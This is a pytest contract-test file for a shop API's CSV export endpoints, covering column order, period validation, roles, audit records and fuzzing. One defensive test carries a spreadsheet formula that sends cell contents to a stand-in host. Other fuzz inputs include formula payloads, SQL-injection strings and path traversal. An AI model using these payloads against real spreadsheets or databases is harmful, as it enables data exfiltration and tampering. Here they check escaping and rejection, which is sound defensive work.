"""Contract tests for `GET /v1/exports/{name}.csv` and `GET /v1/exports/contract`
(api-contract.md: CSV exports).

Analyst+ (storefront 403); `text/csv; charset=utf-8` as an attachment named
`kassa-<name>-<from>-<to>.csv`; RFC 4180 with a header row that is the contract's; amounts
in minor units beside a `currency` column; times RFC 3339 UTC; periods as the KPIs take
them (422 for a bad one); formula-like text cells prefixed with `'`; one audit record
`export.<name>` per export with the actor, the filters and the row count.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import update

from kassa.api.app import create_app
from kassa.bootstrap import Kassa
from kassa.services import exports as exports_module
from kassa.services.exports import CONTRACT
from kassa.storage.tables import Customer, Product
from tests.builders import customer, make_product, order, paid_order
from tests.conftest import FakeClock, Keys

PROBLEM_JSON = "application/problem+json"
EXPORTS = ("orders", "payments", "refunds", "customers", "products", "kpis")
TIMED = ("orders", "payments", "refunds", "customers", "kpis")

# The contract as it was first released. A column may be added at the end of an export,
# never renamed, moved or removed: a bookkeeper's spreadsheet reads columns by position.
FIRST_CONTRACT: dict[str, list[str]] = {
    "orders": [
        "id", "number", "status", "currency", "subtotal", "total", "amount_paid",
        "amount_refunded", "customer_id", "email", "cancel_reason", "stock_shortage",
        "disputed", "created_at", "paid_at", "fulfilled_at", "canceled_at", "refunded_at",
        "disputed_at",
    ],
    "payments": [
        "id", "order_id", "top_up_customer_id", "provider", "provider_payment_id", "status",
        "amount", "currency", "failure_type", "failure_code", "decline_code", "retry_count",
        "recovered_by_retry", "created_at", "succeeded_at", "updated_at",
    ],
    "refunds": [
        "id", "refund_id", "order_id", "payment_id", "status", "amount", "currency",
        "destination", "provider", "provider_refund_id", "origin", "reason", "failure_code",
        "created_at", "updated_at",
    ],
    "customers": ["id", "email", "name", "created_at"],
    "products": [
        "id", "sku", "title", "status", "currency", "unit_amount", "stock", "unique",
        "created_at", "updated_at",
    ],
    "kpis": ["date", "currency", "orders_paid", "gross_sales", "refunds", "net_sales"],
}  # fmt: skip


def download(
    client: TestClient, keys: Keys, name: str, role: str = "analyst", **params: str
) -> httpx.Response:
    if name not in ("products",) and not params:
        params = {"window": "today"}
    return client.get(f"/v1/exports/{name}.csv", params=params, headers=keys.headers(role))


def rows_of(response: httpx.Response, name: str) -> list[dict[str, str]]:
    """The CSV's rows by column, after checking it is the contract's CSV."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    body = response.content.decode("utf-8")
    assert body.endswith("\r\n")
    lines = list(csv.reader(io.StringIO(body, newline="")))
    assert lines[0] == list(CONTRACT[name]), f"{name}: the header is not the contract's"
    assert all(len(line) == len(lines[0]) for line in lines)
    return [dict(zip(lines[0], line, strict=True)) for line in lines[1:]]


def export_records(client: TestClient, keys: Keys) -> list[dict[str, Any]]:
    response = client.get("/v1/audit", params={"limit": 100}, headers=keys.headers("admin"))
    assert response.status_code == 200, response.text
    return [r for r in response.json()["data"] if r["action"].startswith("export.")]


# -- the contract -----------------------------------------------------------------------


def test_columns_are_only_ever_appended() -> None:
    """Changing the first release's columns (a rename, a move, a removal) fails here;
    adding one at the end of an export, or a new export, does not."""
    for name, first in FIRST_CONTRACT.items():
        assert name in CONTRACT, f"the {name} export was removed"
        now = list(CONTRACT[name])
        assert now[: len(first)] == first, f"{name}: columns may only be added at the end"
        assert len(set(now)) == len(now), f"{name}: a column appears twice"


def test_the_contract_file_is_in_the_package_and_served(client: TestClient, keys: Keys) -> None:
    path = Path(exports_module.__file__).with_name("exports_contract.json")
    on_disk = json.loads(path.read_text("utf-8"))
    response = client.get("/v1/exports/contract", headers=keys.headers("analyst"))
    assert response.status_code == 200, response.text
    assert response.json() == on_disk == {k: list(v) for k, v in CONTRACT.items()}
    assert client.get("/v1/exports/contract", headers=keys.headers("storefront")).status_code == 403


@pytest.mark.parametrize("name", EXPORTS)
def test_an_empty_export_is_the_header_row_alone(client: TestClient, keys: Keys, name: str) -> None:
    response = download(client, keys, name)
    assert rows_of(response, name) == []
    assert response.content == (",".join(CONTRACT[name]) + "\r\n").encode()


# -- what the exports hold --------------------------------------------------------------


def test_each_export_holds_the_rows_made_with_amounts_and_utc_times(
    client: TestClient, keys: Keys
) -> None:
    make_product(client, keys, "MUG", title="Mug", unit_amount=1500, stock=10)
    make_product(client, keys, "TEE", title="Tee", unit_amount=2000, currency="EUR")
    buyer = customer(client, keys, email="ada@example.com")
    paid = paid_order(client, keys, lines=(("MUG", 2),), customer=buyer)
    pending = order(client, keys, lines=(("TEE", 1),), email="guest@example.com")
    refund = client.post(
        f"/v1/orders/{paid['id']}/refunds",
        json={"amount": 500, "reason": "scratched"},
        headers=keys.headers("ops"),
    )
    assert refund.status_code == 201, refund.text

    orders = {row["id"]: row for row in rows_of(download(client, keys, "orders"), "orders")}
    assert set(orders) == {paid["id"], pending["id"]}
    assert orders[paid["id"]] | {"created_at": "", "paid_at": "", "refunded_at": ""} == {
        **dict.fromkeys(CONTRACT["orders"], ""),
        "id": paid["id"],
        "number": paid["number"],
        "status": "paid",
        "currency": "EUR",
        "subtotal": "3000",
        "total": "3000",
        "amount_paid": "3000",
        "amount_refunded": "500",
        "customer_id": buyer,
        "email": "ada@example.com",
        "stock_shortage": "false",
        "disputed": "false",
    }
    assert orders[paid["id"]]["paid_at"].endswith("Z")
    assert orders[paid["id"]]["created_at"] == paid["created_at"]  # as the JSON API writes it
    assert orders[pending["id"]]["status"] == "pending"
    assert orders[pending["id"]]["email"] == "guest@example.com"
    assert orders[pending["id"]]["paid_at"] == ""

    (payment,) = rows_of(download(client, keys, "payments"), "payments")
    assert payment["order_id"] == paid["id"]
    assert (payment["provider"], payment["status"], payment["amount"]) == (
        "mock",
        "succeeded",
        "3000",
    )
    assert payment["currency"] == "EUR" and payment["recovered_by_retry"] == "false"

    (part,) = rows_of(download(client, keys, "refunds"), "refunds")
    assert part["id"] == part["refund_id"] == refund.json()["id"]
    assert (part["order_id"], part["payment_id"]) == (paid["id"], payment["id"])
    assert (part["amount"], part["currency"], part["status"]) == ("500", "EUR", "succeeded")
    assert part["reason"] == "scratched" and part["destination"] == "original"

    (person,) = rows_of(download(client, keys, "customers"), "customers")
    assert (person["id"], person["email"], person["name"]) == (buyer, "ada@example.com", "")

    products = {p["sku"]: p for p in rows_of(download(client, keys, "products"), "products")}
    assert products["MUG"]["stock"] == "8" and products["MUG"]["unit_amount"] == "1500"
    assert products["TEE"]["stock"] == "" and products["TEE"]["unique"] == "false"


def test_a_failed_payment_carries_its_failure(client: TestClient, keys: Keys) -> None:
    make_product(client, keys)
    placed = order(client, keys)
    declined = client.post(
        f"/v1/orders/{placed['id']}/payments",
        json={"payment_method": "pm_card_visa_chargeDeclinedInsufficientFunds"},
        headers=keys.headers("storefront"),
    )
    assert declined.status_code == 201 and declined.json()["status"] == "failed", declined.text
    (payment,) = rows_of(download(client, keys, "payments"), "payments")
    assert payment["status"] == "failed" and payment["succeeded_at"] == ""
    assert (payment["failure_code"], payment["decline_code"]) == (
        "card_declined",
        "insufficient_funds",
    )
    assert payment["failure_type"] == "card_declined"


def test_text_that_a_spreadsheet_would_run_is_escaped(
    client: TestClient, keys: Keys, kassa: Kassa
) -> None:
    """A customer's e-mail and name, a product's title, a refund's reason: whatever starts
    with =, +, -, @, a tab or a carriage return gets a leading quote. The API strips
    leading blanks, so the tab and CR come straight from the database."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    make_product(client, keys, "MUG", title=formula)
    make_product(client, keys, "TEE", title="-2+3")
    names = {
        "=1+2@example.com": "+Bob",
        "-x@example.com": "@SUM(A1:A9)",
        "tab@example.com": "Tab",
        "cr@example.com": "Cr",
    }
    for email, name in names.items():
        made = client.post(
            "/v1/customers", json={"email": email, "name": name}, headers=keys.headers("ops")
        )
        assert made.status_code == 201, made.text
    with kassa.db.transaction() as session:
        session.execute(
            update(Customer).where(Customer.email == "tab@example.com").values(name="\t=1+1")
        )
        session.execute(
            update(Customer).where(Customer.email == "cr@example.com").values(name="\r=1+1")
        )
        session.execute(update(Product).where(Product.sku == "TEE").values(title="\r-2+3"))
    paid = paid_order(client, keys, email="+boss@example.com")
    refund = client.post(
        f"/v1/orders/{paid['id']}/refunds",
        json={"reason": "+wrong size"},
        headers=keys.headers("ops"),
    )
    assert refund.status_code == 201, refund.text

    people = {
        p["email"]: p["name"] for p in rows_of(download(client, keys, "customers"), "customers")
    }
    assert people == {
        "'=1+2@example.com": "'+Bob",
        "'-x@example.com": "'@SUM(A1:A9)",
        "tab@example.com": "'\t=1+1",
        "cr@example.com": "'\r=1+1",
    }
    titles = {p["sku"]: p["title"] for p in rows_of(download(client, keys, "products"), "products")}
    assert titles == {"MUG": "'" + formula, "TEE": "'\r-2+3"}
    (placed,) = rows_of(download(client, keys, "orders"), "orders")
    assert placed["email"] == "'+boss@example.com"
    assert placed["total"] == "1000"  # numbers are never touched
    (part,) = rows_of(download(client, keys, "refunds"), "refunds")
    assert part["reason"] == "'+wrong size"


# -- periods ----------------------------------------------------------------------------


def test_a_period_selects_rows_by_their_creation_day(
    client: TestClient, keys: Keys, clock: FakeClock
) -> None:
    make_product(client, keys, stock=100)
    made: dict[int, str] = {}
    start = clock.now
    for days_ago in (40, 8, 6, 1, 0):
        clock.now = start - timedelta(days=days_ago)
        made[days_ago] = order(client, keys, email=f"d{days_ago}@example.com")["id"]
    clock.now = start
    today = start.date()

    def ids(**params: str) -> set[str]:
        return {row["id"] for row in rows_of(download(client, keys, "orders", **params), "orders")}

    assert ids(window="today") == {made[0]}
    assert ids(window="yesterday") == {made[1]}
    assert ids(window="7d") == {made[0], made[1], made[6]}
    assert ids(window="30d") == {made[0], made[1], made[6], made[8]}
    first = (today - timedelta(days=40)).isoformat()
    last = (today - timedelta(days=6)).isoformat()
    assert ids(**{"from": first, "to": last}) == {made[40], made[8], made[6]}
    assert ids(**{"from": first, "to": first}) == {made[40]}
    # customers and payments follow their own creation times
    people = rows_of(download(client, keys, "customers", window="today"), "customers")
    assert people == []


def test_the_file_is_named_after_the_period(client: TestClient, keys: Keys) -> None:
    response = download(client, keys, "orders", **{"from": "2026-01-01", "to": "2026-01-31"})
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"] == (
        'attachment; filename="kassa-orders-2026-01-01-2026-01-31.csv"'
    )
    assert response.headers["cache-control"] == "no-store"


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "2026-02-02", "to": "2026-02-01"}, "from"),  # from > to
        ({"from": "2025-01-01", "to": "2026-01-02"}, "to"),  # 367 days
        ({"from": "2026-02-30", "to": "2026-03-01"}, "from"),  # no such day
        ({"from": "2026-01-01"}, "to"),
        ({"to": "2026-01-01"}, "from"),
        ({"window": "7d", "from": "2026-01-01", "to": "2026-01-02"}, "window"),
    ],
)
def test_bad_periods_are_422(
    client: TestClient, keys: Keys, params: dict[str, str], field: str
) -> None:
    for name in TIMED:
        response = download(client, keys, name, **params)
        assert response.status_code == 422, response.text
        assert response.headers["content-type"] == PROBLEM_JSON
        body = response.json()
        assert body["code"] == "invalid_period", body
        assert body["errors"][0]["field"] == field, body


@pytest.mark.parametrize(
    ("params", "code", "field"),
    [
        ({}, "invalid_period", "from"),  # a timed export needs a period
        ({"window": "week"}, "invalid_period", "window"),
        ({"window": "7D"}, "invalid_period", "window"),
        ({"from": "01/02/2026", "to": "2026-01-03"}, "invalid_period", "from"),
        ({"from": "2026-01-01", "to": "'; DROP --"}, "invalid_period", "to"),
        # longer than any day or window can be: FastAPI's own check of the query
        ({"from": "2026-01-01T00:00:00Z", "to": "2026-01-03"}, "validation_error", "from"),
        ({"from": "9" * 5000, "to": "2026-01-03"}, "validation_error", "from"),
        ({"window": "yesterday-ish"}, "validation_error", "window"),
    ],
)
def test_malformed_periods_are_422_too(
    client: TestClient, keys: Keys, params: dict[str, str], code: str, field: str
) -> None:
    """The same answers as `GET /v1/kpis` gives for the same query."""
    for path in ("/v1/exports/orders.csv", "/v1/kpis"):
        response = client.get(path, params=params, headers=keys.headers("analyst"))
        assert response.status_code == 422, response.text
        body = response.json()
        assert (body["code"], body["errors"][0]["field"]) == (code, field), (path, body)


def test_products_are_the_catalogue_now_and_take_no_period(client: TestClient, keys: Keys) -> None:
    response = download(client, keys, "products", window="7d")
    assert response.status_code == 422 and response.json()["code"] == "invalid_period"
    today = download(client, keys, "products")
    assert today.status_code == 200
    assert 'filename="kassa-products-' in today.headers["content-disposition"]


# -- who may export, and the audit log ---------------------------------------------------


@pytest.mark.parametrize("name", EXPORTS)
def test_storefront_keys_get_403_and_staff_200(client: TestClient, keys: Keys, name: str) -> None:
    refused = download(client, keys, name, role="storefront")
    assert refused.status_code == 403, refused.text
    assert refused.json()["code"] == "insufficient_role"
    for role in ("analyst", "ops", "admin"):
        assert download(client, keys, name, role=role).status_code == 200
    anonymous = client.get(f"/v1/exports/{name}.csv", params={"window": "today"})
    assert anonymous.status_code == 401


def test_kpis_csv_is_the_kpi_reports_series(client: TestClient, keys: Keys) -> None:
    """The daily series of `GET /v1/kpis`, row for row, for the same period: a paid order
    in two currencies and a refund, so a day has a sale and a (negative-capable) refund."""
    make_product(client, keys, "MUG", unit_amount=1500)
    make_product(client, keys, "CAP", unit_amount=700, currency="USD")
    paid = paid_order(client, keys, lines=(("MUG", 2),))
    paid_order(client, keys, lines=(("CAP", 3),), currency="USD")
    refund = client.post(
        f"/v1/orders/{paid['id']}/refunds", json={"amount": 500}, headers=keys.headers("ops")
    )
    assert refund.status_code == 201, refund.text
    for params in ({"window": "7d"}, {"window": "today", "currency": "EUR"}):
        report = client.get("/v1/kpis", params=params, headers=keys.headers("analyst"))
        assert report.status_code == 200, report.text
        period = {k: v for k, v in params.items() if k != "currency"}
        rows = rows_of(download(client, keys, "kpis", **period), "kpis")
        series = [{c: str(day[c]) for c in CONTRACT["kpis"]} for day in report.json()["series"]]
        if "currency" in params:  # the export has every currency; the filter is the API's
            rows = [row for row in rows if row["currency"] == params["currency"]]
        assert rows == series
    assert [
        (row["currency"], row["net_sales"])
        for row in rows_of(download(client, keys, "kpis", window="today"), "kpis")
    ] == [("EUR", "2500"), ("USD", "2100")]  # 3000 - 500; 2100


def test_an_unknown_export_is_404(client: TestClient, keys: Keys) -> None:
    for name in ("bogus", "audit_log", "ORDERS", "KPIS"):
        response = download(client, keys, name)
        assert response.status_code == 404, response.text
        assert response.json()["code"] == "export_not_found"
    assert export_records(client, keys) == []


def test_each_export_writes_exactly_one_audit_record(client: TestClient, keys: Keys) -> None:
    make_product(client, keys, stock=5)
    for email in ("a@example.com", "b@example.com", "c@example.com"):
        order(client, keys, email=email)
    orders = download(client, keys, "orders", window="7d")
    products = download(client, keys, "products", role="ops")
    assert orders.status_code == products.status_code == 200
    # refused ones export nothing and write nothing
    assert download(client, keys, "orders", role="storefront").status_code == 403
    assert (
        download(client, keys, "orders", **{"from": "2026-02-02", "to": "2026-01-01"}).status_code
        == 422
    )

    records = export_records(client, keys)
    assert len(records) == 2, records
    by_action = {r["action"]: r for r in records}
    first = by_action["export.orders"]
    assert first["actor_key_id"] == keys.ids["analyst"]
    assert first["request_id"] == orders.headers["x-request-id"]
    assert first["subject_id"] in orders.headers["content-disposition"]
    assert first["before"] is None
    today = rows_of(orders, "orders")[0]["created_at"][:10]
    assert first["after"]["rows"] == 3 and first["after"]["completed"] is True
    assert first["after"]["filters"]["window"] == "7d"
    assert first["after"]["filters"]["to"] == today
    assert first["after"]["filters"]["timezone"] == "UTC"
    catalogue = by_action["export.products"]
    assert catalogue["actor_key_id"] == keys.ids["ops"]
    assert catalogue["after"] == {"filters": {}, "rows": 1, "completed": True}


# -- hostile input ----------------------------------------------------------------------


@pytest.fixture
def lenient(kassa: Kassa) -> Iterator[TestClient]:
    """A client that answers a server error as the server would (500), not by raising."""
    with TestClient(create_app(kassa), raise_server_exceptions=False) as client:
        yield client


_tricky = st.one_of(
    st.text(max_size=30),
    st.sampled_from(
        ["", "\x00", "%00", "\ud800", "../orders", "orders.csv", "2026-02-30", "9999-12-31",
         "0000-00-00", "2026-01-01\n", "-1", "7d ", "TODAY", "' OR 1=1 --", "😀" * 20]
    ),
)  # fmt: skip


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    name=st.one_of(st.sampled_from([*EXPORTS, "kpis", "contract"]), _tricky),
    query=st.dictionaries(st.sampled_from(["window", "from", "to"]) | _tricky, _tricky, max_size=3),
)
def test_no_name_or_period_makes_an_export_answer_5xx(
    lenient: TestClient, keys: Keys, name: str, query: dict[str, str]
) -> None:
    def escape(text: str) -> str:
        return quote(text.encode("utf-8", "surrogatepass"), safe="")

    query_string = "&".join(f"{escape(k)}={escape(v)}" for k, v in query.items())
    response = lenient.get(
        f"/v1/exports/{escape(name)}.csv?{query_string}", headers=keys.headers("analyst")
    )
    assert response.status_code in (200, 400, 404, 422), (response.status_code, response.text)
    if response.status_code != 200:
        assert response.headers["content-type"] == PROBLEM_JSON
    else:
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
